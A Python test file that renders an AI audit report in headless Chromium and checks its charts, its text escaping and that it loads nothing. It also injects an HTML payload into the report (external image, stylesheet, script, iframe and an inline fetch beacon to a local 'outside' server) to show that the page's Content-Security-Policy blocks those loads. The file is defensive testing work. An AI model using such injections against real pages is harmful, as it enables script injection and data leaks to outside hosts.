"""The HTML report in a real headless browser: Debian's Chromium, driven by playwright.

A report is built from a fake campaign (real lab and auditor keys, a real Merkle log, every
chart drawn by matplotlib; see ``tests/unit/report/fake_lab.py``), with a lab source title
that is an HTML injection. The page is then opened the way a regulator opens it, from a
``file://`` URL, and must:

- render: its title, heading, verification line and one section per suite, with no console
  message of level error and no uncaught page error;
- show its charts: every chart in ``plots/`` is inlined once, has a non-zero rendered box
  and draws more than its background;
- load nothing: the only request the browser makes is for the page itself.

The page's Content-Security-Policy is then shown to be a defence that works, not a comment:
a tampered copy that tries to load an image, a stylesheet, a script, a CSS background, a
frame and an inline script's ``fetch`` from a local "outside" server makes that server see
nothing, while the same copy without the CSP meta makes it see those loads (so the attack
is real, and the CSP is what stops it). The copies are opened from ``file://`` and, from a
second local origin, over HTTP; the outside server's own log, not only the browser's, is the
evidence.

A full-page screenshot is kept in ``test-artifacts/report-browser/`` at the repository root.

Playwright is told to use ``/usr/bin/chromium`` (``scripts/setup.sh`` installs Debian's
package); it never downloads a browser (``playwright install`` is never run). Without
Chromium the test skips, except under CI, where the set-up must have installed it.
"""

from __future__ import annotations

import io
import json
import os
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from auditor_client.report.build import render_report, write_report
from tests.unit.report.fake_lab import EVIL_TITLE, Campaign, make_campaign

REPO = Path(__file__).resolve().parents[2]
ARTIFACTS = REPO / "test-artifacts" / "report-browser"
CHROMIUM = Path(os.environ.get("AUDITOR_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = [
    # Flags that keep Chromium quiet on a closed network as root (playwright adds the
    # headless, sandbox, first-run and profile flags itself).
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-proxy-server",
]
VIEWPORT = {"width": 1280, "height": 900}
CHART_TITLES = {
    **{
        f"{suite}-{kind}": f"{suite}: {title}"
        for suite in ("copyright", "bias", "toxicity")
        for kind, title in (
            ("influence", "influence share by data class"),
            ("sources", "top training sources"),
        )
    },
    "bias-gaps": "bias: gaps per template",
    "toxicity-rate": "toxicity: rate of toxic completions",
}
EVIL_NAME = "Fake <b>campaign</b>"
"""A campaign name with markup, put into report.json after verification (the campaign
schema forbids such a name, and verification ties the name to the carried campaign file),
to check that the page renders it as text."""


def _unavailable(reason: str) -> None:
    if os.environ.get("CI") == "true":
        pytest.fail(f"{reason}; under CI scripts/setup.sh must have installed it")
    pytest.skip(reason)


sync_api: Any
try:
    from playwright import sync_api
except ImportError:  # pragma: no cover - the dev extra installs it
    sync_api = None


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if sync_api is None:
        _unavailable("playwright is not installed (pip install -e '.[dev]')")
    if not (CHROMIUM.is_file() and os.access(CHROMIUM, os.X_OK)):
        _unavailable(
            f"{CHROMIUM} is missing: run scripts/setup.sh as root (it installs Debian's "
            "chromium with apt-get), or point AUDITOR_CHROMIUM at a Chromium binary"
        )
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS, timeout=30_000
        )
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Campaign:
    # Every chart kind: each suite's influence + sources, bias gaps, toxicity rate.
    made = make_campaign(tmp_path_factory.mktemp("browser") / "out", evil_title=True)
    write_report(made.out, lab_public_key=made.lab.lab_public, suites=made.suites)
    report = json.loads((made.out / "report.json").read_text(encoding="utf-8"))
    report["campaign"]["name"] = EVIL_NAME
    render_report(report, made.out)
    return made


@dataclass
class Visit:
    """What the browser did while showing one page."""

    requests: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)
    page_errors: list[str] = field(default_factory=list)
    failed: dict[str, str] = field(default_factory=dict)
    """URL -> the browser's reason for not loading it."""


def _open(browser: Any, url: str) -> tuple[Any, Any, Visit]:
    context = browser.new_context(viewport=VIEWPORT, service_workers="block")
    page = context.new_page()
    visit = Visit()
    page.on("request", lambda r: visit.requests.append(r.url))
    page.on(
        "console",
        lambda m: visit.console_errors.append(m.text) if m.type == "error" else None,
    )
    page.on("pageerror", lambda e: visit.page_errors.append(str(e)))
    page.on("requestfailed", lambda r: visit.failed.setdefault(r.url, r.failure or ""))
    page.goto(url, wait_until="load")
    page.wait_for_load_state("networkidle")
    return context, page, visit


class _Recorder(ThreadingHTTPServer):
    """A local HTTP server that serves a directory and logs every path asked of it."""

    daemon_threads = True

    def __init__(self, root: Path) -> None:
        self.root = root
        self.hits: list[str] = []
        recorder = self

        class Handler(SimpleHTTPRequestHandler):
            def __init__(self, *args: Any, **kwargs: Any) -> None:
                super().__init__(*args, directory=str(root), **kwargs)

            def do_GET(self) -> None:
                recorder.hits.append(self.path)
                super().do_GET()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


@pytest.fixture()
def servers(tmp_path: Path) -> Iterator[tuple[_Recorder, _Recorder]]:
    """(site, outside): two origins; the tampered pages live on the first."""
    (tmp_path / "site").mkdir()
    (tmp_path / "outside").mkdir()
    for name, body in {
        "x.png": _tiny_png(),
        "x.css": b"body{outline:1px solid red}",
        "x.js": b"document.title='owned';",
        "bg.png": _tiny_png(),
        "frame.html": b"<p>framed</p>",
        "beacon": b"ok",
    }.items():
        (tmp_path / "outside" / name).write_bytes(body)
    site, outside = _Recorder(tmp_path / "site"), _Recorder(tmp_path / "outside")
    try:
        yield site, outside
    finally:
        site.stop()
        outside.stop()


def _tiny_png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (2, 2), (255, 0, 0)).save(buf, format="PNG")
    return buf.getvalue()


def _decode_png(data: bytes) -> Any:
    from PIL import Image

    image = Image.open(io.BytesIO(data))
    assert image.format == "PNG"
    image.load()
    return image.convert("RGB")


def _colours(image: Any) -> int:
    colours = image.getcolors(maxcolors=1 << 24)
    return len(colours) if colours is not None else 1 << 24


def test_report_renders_with_charts_and_loads_nothing(browser: Any, campaign: Campaign) -> None:
    index = campaign.out / "index.html"
    url = index.as_uri()
    context, page, visit = _open(browser, url)
    try:
        # Renders: title, heading, the build-time verification, a section per suite.
        assert page.title() == f"Audit report: {EVIL_NAME}"
        assert page.locator("h1").inner_text() == f"Audit report: {EVIL_NAME}"
        assert page.locator("h1 b").count() == 0, "campaign name rendered as markup"
        status = page.locator("div.status").first
        assert status.is_visible()
        assert "verified at build time" in status.inner_text()
        sections = page.locator("h2").all_inner_texts()
        assert sections == [
            "How trustworthy are these attributions (measured by the lab, signed)",
            "copyright",
            "bias",
            "toxicity",
            "Probes",
        ]
        probes = len(list((campaign.out / "probes").rglob("*.json")))
        assert page.locator("table").last.locator("tbody tr").count() == probes

        # The lab's HTML injection is text on the page, not an element.
        assert EVIL_TITLE in page.locator("body").inner_text()
        assert page.locator("script").count() == 0
        assert page.locator("img").count() == 0

        # Charts: each of plots/*.svg inlined once, laid out, with drawn content.
        expected = sorted(p.stem for p in (campaign.out / "plots").glob("*.svg"))
        assert expected == sorted(CHART_TITLES), expected
        charts = page.locator("figure > svg")
        assert charts.count() == len(expected)
        page_width = page.evaluate("document.documentElement.clientWidth")
        seen = []
        for i in range(charts.count()):
            chart = charts.nth(i)
            box = chart.bounding_box()
            assert box is not None and box["width"] > 100 and box["height"] > 50, box
            assert box["x"] >= 0 and box["x"] + box["width"] <= page_width + 1, box
            text = chart.text_content() or ""
            title = next((n for n, t in CHART_TITLES.items() if t in text), None)
            assert title is not None, text[:200]
            seen.append(title)
            assert chart.locator("path").count() > 5
            pixels = _decode_png(chart.screenshot())
            assert pixels.size[0] > 100 and pixels.size[1] > 50
            assert _colours(pixels) > 16, f"{title} draws (almost) nothing"
            # The bars and markers are drawn in the charts' colours, not only grey axes.
            assert _coloured_pixels(pixels) > 30, f"{title} has no bars or markers"
        assert sorted(seen) == expected
        assert page.evaluate(
            "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
        ), "the page scrolls sideways"

        # Nothing but the page itself was requested, and the page said nothing wrong.
        assert visit.requests == [url], visit.requests
        assert visit.console_errors == [], visit.console_errors
        assert visit.page_errors == [], visit.page_errors

        # The artifact: a full-page screenshot.
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        shot = ARTIFACTS / "report.png"
        shot.write_bytes(page.screenshot(full_page=True))
        image = _decode_png(shot.read_bytes())
        width, height = image.size
        assert width == VIEWPORT["width"] and height > VIEWPORT["height"]
        assert _colours(image) > 64, "the screenshot is (almost) one colour"
    finally:
        context.close()


def _coloured_pixels(image: Any) -> int:
    """Pixels in the charts' blue (#4c72b0) or red (#c44e52) family, not grey or white."""
    return sum(
        n
        for n, (r, g, b) in image.getcolors(maxcolors=1 << 24)
        if (b > 150 and r < 110) or (r > 170 and g < 110 and b < 110)
    )


# Every way a page can make the browser fetch something that the CSP should stop.
ATTACK = """
<img src="{o}/x.png" alt="">
<link rel="stylesheet" href="{o}/x.css">
<script src="{o}/x.js"></script>
<div style="width:10px;height:10px;background-image:url('{o}/bg.png')"></div>
<iframe src="{o}/frame.html"></iframe>
<script>fetch("{o}/beacon?fetch").catch(function(){{}});</script>
"""
ATTACK_PATHS = {"/x.png", "/x.css", "/x.js", "/bg.png", "/frame.html", "/beacon?fetch"}
CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.mark.parametrize("scheme", ["file", "http"])
def test_csp_blocks_loads_a_tampered_report_would_make(
    browser: Any, campaign: Campaign, servers: tuple[_Recorder, _Recorder], scheme: str
) -> None:
    site, outside = servers
    page_html = (campaign.out / "index.html").read_text(encoding="utf-8")
    assert len(CSP_META.findall(page_html)) == 1
    tampered = page_html.replace("</body>", ATTACK.format(o=outside.origin) + "</body>")
    assert tampered != page_html
    urls = {}
    for name, text in (("with-csp", tampered), ("without-csp", CSP_META.sub("", tampered))):
        path = site.root / f"{name}.html"
        path.write_text(text, encoding="utf-8")
        urls[name] = path.as_uri() if scheme == "file" else f"{site.origin}/{path.name}"

    # With the report's CSP: the outside server sees nothing; the browser says why.
    context, page, visit = _open(browser, urls["with-csp"])
    try:
        page.wait_for_timeout(300)
        assert outside.hits == [], outside.hits
        # The browser saw each load in the page and refused it for the CSP.
        attempted = {u for u in visit.requests if u.startswith(outside.origin)}
        assert attempted, visit.requests
        for u in attempted:
            assert "csp" in visit.failed.get(u, "").lower(), (u, visit.failed)
        assert page.title().startswith("Audit report:"), "the injected script ran"
        assert "Content Security Policy" in " ".join(visit.console_errors), visit.console_errors
    finally:
        context.close()
    assert site.hits == ([] if scheme == "file" else ["/with-csp.html"]), site.hits

    # The same page without it: the attack works (every load reaches the outside server).
    context, page, visit = _open(browser, urls["without-csp"])
    try:
        deadline = time.monotonic() + 10
        while not set(outside.hits) >= ATTACK_PATHS and time.monotonic() < deadline:
            page.wait_for_timeout(50)
        assert set(outside.hits) >= ATTACK_PATHS, outside.hits
        assert page.title() == "owned"
    finally:
        context.close()
